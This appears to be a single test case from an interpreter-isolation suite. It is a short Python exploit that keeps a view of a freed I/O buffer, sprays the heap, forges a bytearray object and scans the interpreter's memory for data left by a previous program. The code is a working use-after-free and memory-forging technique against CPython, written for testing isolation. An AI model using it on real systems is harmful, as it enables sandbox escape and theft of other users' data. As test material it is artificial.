# attack: searches all memory of its interpreter, through a view of freed memory, for the mark of the program before
# property: S12
# timeout_ms: 10000
# expect: value [0, true]
import io
import re
import struct

kept = []


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        kept.append(buffer)
        return len(buffer)

    def readable(self):
        return True


reader = io.BufferedReader(Raw(), 1 << 12)
reader.read(1)
del reader
spray = [[None] * 512 for _ in range(64)]
words = kept[0].cast("B").cast("P")
found = next(at for at in range(len(words) - 1) if words[at] == words[at + 1] == id(None))
end = max(map(id, spray)) & ~0xFFFF
fake = struct.pack("PPPPPPP", 1 << 28, id(bytearray), end - 64, end - 64, 0, 64, 0)
words[found] = id(fake) + bytes.__basicsize__ - 1
memory = next(part[index] for part in spray for index in range(512) if part[index] is not None)
# Written so that the pattern does not find itself.
return [len(re.findall(rb"left-by-the-program-befor[e]", memory)), len(re.findall(rb"sys[.]version", memory)) > 0]
